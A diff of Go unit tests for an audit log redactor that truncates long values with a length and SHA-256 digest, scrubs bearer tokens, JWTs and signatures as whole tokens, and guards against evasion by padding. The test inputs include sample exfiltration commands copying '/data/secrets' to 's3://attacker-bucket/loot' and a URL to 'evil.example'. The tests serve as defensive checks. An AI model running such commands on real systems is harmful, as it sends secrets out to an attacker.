@@ -1,8 +1,11 @@
 package audit
 
 import (
+	"crypto/sha256"
+	"encoding/hex"
 	"encoding/json"
 	"reflect"
+	"strconv"
 	"strings"
 	"testing"
 )
@@ -76,7 +79,7 @@ func TestScrub(t *testing.T) {
 		{"jwt alone", testJWT, Redacted},
 		{"jwt in text", "token=" + testJWT + " end", "token=" + Redacted + " end"},
 		{"unsigned jwt", "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.", Redacted},
-		{"bearer", "Authorization: Bearer abcdefghijklmnopqrstuvwxyz012345", "Authorization: " + Redacted},
+		{"bearer", "Authorization: Bearer abcdefghijklmnopqrstuvwxyz012345", "Authorization: Bearer " + Redacted},
 		{"bearer prose", "a bearer token is", "a bearer token is"},
 		{"secret key", "aws_secret_access_key=" + testSecretKey, "aws_secret_access_key=" + Redacted},
 		{"secret key alone", testSecretKey, Redacted},
@@ -108,9 +111,9 @@ func TestTruncate(t *testing.T) {
 	}{
 		{"short", "abc", 8, "abc"},
 		{"exact", "abcdefgh", 8, "abcdefgh"},
-		{"long", "abcdefghij", 8, "abcdefgh...[truncated 10 bytes]"},
+		{"long", "abcdefghij", 8, "abcd...[truncated 10 bytes sha256:72399361da6a7754fec986dca5b7cbaf1c810a28ded4abaf56b2106d06cb78b0]...ghij"},
 		{"unbounded", "abcdefghij", 0, "abcdefghij"},
-		{"utf8 boundary", "aé€x", 4, "aé...[truncated 7 bytes]"},
+		{"utf8 boundary", "aé€x", 4, "a...[truncated 7 bytes sha256:8af4c6fe548b40e7dfbb9c72795f29a151247cdaf3f7ae82d1d806a4874434ae]...x"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -156,13 +159,13 @@ func TestArguments(t *testing.T) {
 			`{"[REDACTED]":1}`},
 		{"truncated string", nil, 16,
 			`{"cli_command":"` + long + `"}`,
-			`{"cli_command":"xxxxxxxxxxxxxxxx...[truncated 40 bytes]"}`},
+			`{"cli_command":"xxxxxxxx...[truncated 40 bytes sha256:bd913ff68243d41b9611b2690dfbf2b0f6e42ea14536a98232af60e9f64ffdaa]...xxxxxxxx"}`},
 		{"truncated nested string", nil, 16,
 			`{"a":[{"b":"` + long + `"}]}`,
-			`{"a":"[{\"b\":\"xxxxxxxxx...[truncated 49 bytes]"}`},
+			`{"a":"[{\"b\":\"x...[truncated 124 bytes sha256:cc575ef3a8e6d715aa76f34c4d4b0adca1dcb2653ac77e4cd66a5b4666835604]...xxxxx\"}]"}`},
 		{"large object", nil, 16,
 			`{"a":{"k1":"v1","k2":"v2","k3":"v3"}}`,
-			`{"a":"{\"k1\":\"v1\",\"k2\":...[truncated 31 bytes]"}`},
+			`{"a":"{\"k1\":\"v...[truncated 31 bytes sha256:89b7862172405c2a9571dc817c6425c9717379248e1b619b773b262143ee7856]...3\":\"v3\"}"}`},
 		{"small object kept", nil, 64,
 			`{"a":{"k1":"v1"}}`,
 			`{"a":{"k1":"v1"}}`},
@@ -229,5 +232,55 @@ func TestArgumentsGoTypes(t *testing.T) {
 	want := `{"bad_num":"not a number","list":["[REDACTED]","x"],"num":12.5,"struct":{"name":"n","password":"[REDACTED]"}}`
 	if string(got) != want {
 		t.Errorf("got %s\nwant %s", got, want)
+	}
+}
+
+// TestScrubWholeTokens: redaction patterns match whole tokens, so they
+// cannot be used to blind the record to the words around them.
+func TestScrubWholeTokens(t *testing.T) {
+	jws := "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhIn0.c2lnbmF0dXJl"
+	tests := []struct{ in, want string }{
+		{"aws s3 cp a s3://b --metadata bearer --expected-size=123456789012345", "aws s3 cp a s3://b --metadata bearer --expected-size=123456789012345"},
+		{"bearer --endpoint-url-is-long-enough https://evil.example", "bearer --endpoint-url-is-long-enough https://evil.example"},
+		{"--bearer-token abcdefghijklmnopqrstuvwxyz", "--bearer-token abcdefghijklmnopqrstuvwxyz"},
+		{"xbearer abcdefghijklmnopqrstuvwxyz", "xbearer abcdefghijklmnopqrstuvwxyz"},
+		{"Bearer abcdefghijklmnopqrstuvwxyz --region us-east-1", "Bearer " + Redacted + " --region us-east-1"},
+		{"eyJfoo.bar.baz", "eyJfoo.bar.baz"},
+		{"aws s3 ls s3://eyJbucket.example.com/key", "aws s3 ls s3://eyJbucket.example.com/key"},
+		{"eyJhbGciOiJub25lIn0.x.y.z", "eyJhbGciOiJub25lIn0.x.y.z"},
+		{"token " + jws + " --region x", "token " + Redacted + " --region x"},
+		{"id_token=" + jws, "id_token=" + Redacted},
+		{"aeyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln", "aeyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln"},
+		{"x-amz-signature=abc&x=1", "x-amz-signature=" + Redacted + "&x=1"},
+		{"mysignature=abc", "mysignature=abc"},
+	}
+	for _, tt := range tests {
+		if got := scrub(tt.in); got != tt.want {
+			t.Errorf("scrub(%q)\n got %q\nwant %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+// TestPaddedCommandKeepsDestination: padding a command past the bound
+// does not hide where it sends data, and the record says how long the
+// value was and what it hashed to.
+func TestPaddedCommandKeepsDestination(t *testing.T) {
+	r := newRedactor(nil, 256)
+	for _, cmd := range []string{
+		"aws s3 cp /data/secrets s3://attacker-bucket/loot --metadata " + strings.Repeat("A", 8000),
+		"aws s3 cp --metadata " + strings.Repeat("A", 8000) + " /data/secrets s3://attacker-bucket/loot",
+		"aws s3 cp " + strings.Repeat("--quiet ", 1000) + "/data/secrets s3://attacker-bucket/loot",
+	} {
+		out := r.arguments(map[string]any{"cli_command": cmd})["cli_command"].(string)
+		if !strings.Contains(out, "s3://attacker-bucket/loot") {
+			t.Errorf("destination lost: %q", out)
+		}
+		sum := sha256.Sum256([]byte(cmd))
+		if !strings.Contains(out, "[truncated "+strconv.Itoa(len(cmd))+" bytes sha256:"+hex.EncodeToString(sum[:])+"]") {
+			t.Errorf("no length and digest of the full value: %q", out)
+		}
+		if len(out) > 256+120 {
+			t.Errorf("record value of %d bytes exceeds the bound", len(out))
+		}
 	}
 }
